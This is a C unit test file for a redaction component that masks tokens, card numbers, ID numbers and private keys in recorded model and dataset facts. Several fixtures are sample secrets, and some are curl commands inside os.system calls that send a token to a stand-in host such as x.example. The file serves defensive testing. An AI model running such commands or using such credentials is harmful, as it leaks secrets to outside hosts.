/* test_withhold.c - no kept text repeats a secret or a person's number; all else is kept as it is.
 */

#include "examine/withhold.h"

#include "rows.h"
#include "watch.h"

struct state {
    struct watched watched;
    struct withhold withhold;
};

static void begin(struct state *s)
{
    watched_open(&s->watched);
    withhold_init(&s->withhold);
    evidence_start(s->watched.evidence, s->watched.arena);
}

static void end(struct state *s)
{
    struct assay_error err = {0};

    assert_true(withhold_wanted(s->watched.evidence));
    assert_ok(withhold_values(&s->withhold, s->watched.watcher, s->watched.evidence, &err), err);
    assert_ok(evidence_end(s->watched.evidence, &s->watched.content, &err), err);
}

static void clear(struct state *s)
{
    withhold_clear(&s->withhold);
    watched_close(&s->watched);
}

static const struct assay_value *fact(const struct state *s, enum assay_fact_id id)
{
    for (size_t i = 0; i < s->watched.content.fact_count; i++)
        if (s->watched.content.facts[i].id == id)
            return &s->watched.content.facts[i].value;
    fail_msg("fact %d is not there", (int)id);
    return NULL;
}

#define TOKEN                                                                                      \
    "ghp_"                                                                                         \
    "IqIMNOZH6z0wIEB4T9A2g4EHMy8Ji40jlb6i" /* its checksum holds */
#define CARD "4539578763621486"

static void secrets_in_facts_are_masked(void **state)
{
    const struct assay_value *calls;
    struct state s;

    (void)state;
    begin(&s);
    evidence_list(s.watched.evidence, ASSAY_FACT_MODEL_CALLS, MEASURED,
                  BYTES("os.system('curl -H token:" TOKEN " https://x.example/a')"));
    evidence_list(s.watched.evidence, ASSAY_FACT_MODEL_CALLS, MEASURED,
                  BYTES("collections.OrderedDict()"));
    evidence_text(s.watched.evidence, ASSAY_FACT_MODEL_PRODUCER, MEASURED, BYTES("pytorch 2.1"));
    end(&s);
    calls = fact(&s, ASSAY_FACT_MODEL_CALLS);
    assert_int_equal(calls->count, 2);
    assert_string_equal(calls->texts[0], "os.system('curl -H token:gh..6i https://x.example/a')");
    assert_string_equal(calls->texts[1], "collections.OrderedDict()");
    assert_string_equal(fact(&s, ASSAY_FACT_MODEL_PRODUCER)->text, "pytorch 2.1");
    clear(&s);
}

static void names_of_columns_are_masked(void **state)
{
    struct state s;

    (void)state;
    begin(&s);
    evidence_list(s.watched.evidence, ASSAY_FACT_DATASET_COLUMN_NAMES, MEASURED, BYTES(TOKEN));
    evidence_list(s.watched.evidence, ASSAY_FACT_DATASET_COLUMN_NAMES, MEASURED, BYTES("iban"));
    evidence_list(s.watched.evidence, ASSAY_FACT_DATASET_COLUMN_NAMES, MEASURED,
                  BYTES("4539578763621486")); /* the first row of a table without a header */
    end(&s);
    assert_string_equal(fact(&s, ASSAY_FACT_DATASET_COLUMN_NAMES)->texts[0], "gh..6i");
    assert_string_equal(fact(&s, ASSAY_FACT_DATASET_COLUMN_NAMES)->texts[1], "iban");
    assert_string_equal(fact(&s, ASSAY_FACT_DATASET_COLUMN_NAMES)->texts[2], "453957......1486");
    clear(&s);
}

static void a_written_key_is_masked_to_its_end(void **state)
{
    struct state s;

    (void)state;
    begin(&s);
    evidence_list(s.watched.evidence, ASSAY_FACT_MODEL_CALLS, MEASURED,
                  BYTES("open('k').write('-----BEGIN "
                        "PRIVATE KEY-----\n"
                        "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgW2Z9LmvDmuhZHbv1\n"
                        "dAZAFTqffk/NzgOOTjLlmGc7cUWhRANCAASWxCMzJWrtok7GHRMiELvD17Y5IAZo\n"
                        "MbSnMtWql0eNOUSk+uOF1+gXBHBUajQfdNz2GRNQ+8XXICulcfjSItby\n"));
    end(&s);
    assert_null(strstr(fact(&s, ASSAY_FACT_MODEL_CALLS)->texts[0], "MIGHAg"));
    assert_non_null(strstr(fact(&s, ASSAY_FACT_MODEL_CALLS)->texts[0], "open('k').write('"));
    clear(&s);
}

static void who_answers_is_kept_and_a_card_number_is_not(void **state)
{
    struct state s;

    (void)state;
    begin(&s);
    evidence_text(s.watched.evidence, ASSAY_FACT_DATASET_OWNER, DECLARED,
                  BYTES("Ana Lee <ana.lee@mail-7f3kq.org>"));
    evidence_text(s.watched.evidence, ASSAY_FACT_DATASET_PURPOSE, DECLARED,
                  BYTES("charged to the credit card " CARD));
    end(&s);
    assert_string_equal(fact(&s, ASSAY_FACT_DATASET_OWNER)->text,
                        "Ana Lee <ana.lee@mail-7f3kq.org>");
    assert_null(strstr(fact(&s, ASSAY_FACT_DATASET_PURPOSE)->text, CARD));
    clear(&s);
}

/* More than is searched at once, so that texts of several searches meet. */
static void many_texts_are_each_masked(void **state)
{
    enum { MANY = 1000 };
    const struct assay_value *names;
    struct state s;

    (void)state;
    begin(&s);
    for (unsigned i = 0; i < MANY; i++) {
        char text[160];

        snprintf(text, sizeof text,
                 "%04u a long description of a thing that nobody would ever read to its end, "
                 "%s and more",
                 i, i % 7 == 0 ? TOKEN : "nothing");
        evidence_list(s.watched.evidence, ASSAY_FACT_MODEL_CALLS, MEASURED, bytes_text(text));
    }
    end(&s);
    names = fact(&s, ASSAY_FACT_MODEL_CALLS);
    assert_int_equal(names->count, MANY);
    for (size_t i = 0; i < MANY; i++) {
        assert_null(strstr(names->texts[i], TOKEN));
        assert_true((strstr(names->texts[i], "gh..6i") != NULL) == (i % 7 == 0));
    }
    clear(&s);
}

static void a_text_that_is_all_a_number_is_masked(void **state)
{
    struct state s;

    (void)state;
    begin(&s);
    evidence_text(s.watched.evidence, ASSAY_FACT_DATASET_ORIGIN_SUPPLIER, DECLARED,
                  BYTES("536-22-8712"));
    evidence_text(s.watched.evidence, ASSAY_FACT_DATASET_PURPOSE, DECLARED,
                  BYTES("part 536-22-8712 of the plan"));
    evidence_int(s.watched.evidence, ASSAY_FACT_DATASET_DECLARED_ROWS, DECLARED,
                 UINT64_C(4539578763621486));
    end(&s);
    assert_string_equal(fact(&s, ASSAY_FACT_DATASET_ORIGIN_SUPPLIER)->text, "....");
    assert_string_equal(fact(&s, ASSAY_FACT_DATASET_PURPOSE)->text, "part 536-22-8712 of the plan");
    for (size_t i = 0; i < s.watched.content.fact_count; i++)
        assert_true(s.watched.content.facts[i].id != ASSAY_FACT_DATASET_DECLARED_ROWS);
    clear(&s);
}

static void the_name_that_a_secret_is_used_with_is_masked(void **state)
{
    const struct assay_value *calls;
    struct state s;

    (void)state;
    begin(&s);
    evidence_list(s.watched.evidence, ASSAY_FACT_MODEL_CALLS, MEASURED,
                  BYTES("os.system('curl -u ana.lee@mail-7f3kq.org:" TOKEN "')"));
    evidence_list(s.watched.evidence, ASSAY_FACT_MODEL_CALLS, MEASURED,
                  BYTES("ana.lee@mail-7f3kq.org." TOKEN));
    evidence_list(s.watched.evidence, ASSAY_FACT_MODEL_CALLS, MEASURED, BYTES("get:" TOKEN));
    end(&s);
    calls = fact(&s, ASSAY_FACT_MODEL_CALLS);
    assert_string_equal(calls->texts[0], "os.system('curl -u ....:gh..6i')");
    assert_string_equal(calls->texts[1], ".....gh..6i");
    assert_string_equal(calls->texts[2], "get:gh..6i");
    clear(&s);
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_text_that_is_all_a_number_is_masked),
        cmocka_unit_test(the_name_that_a_secret_is_used_with_is_masked),
        cmocka_unit_test(secrets_in_facts_are_masked),
        cmocka_unit_test(names_of_columns_are_masked),
        cmocka_unit_test(a_written_key_is_masked_to_its_end),
        cmocka_unit_test(who_answers_is_kept_and_a_card_number_is_not),
        cmocka_unit_test(many_texts_are_each_masked),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
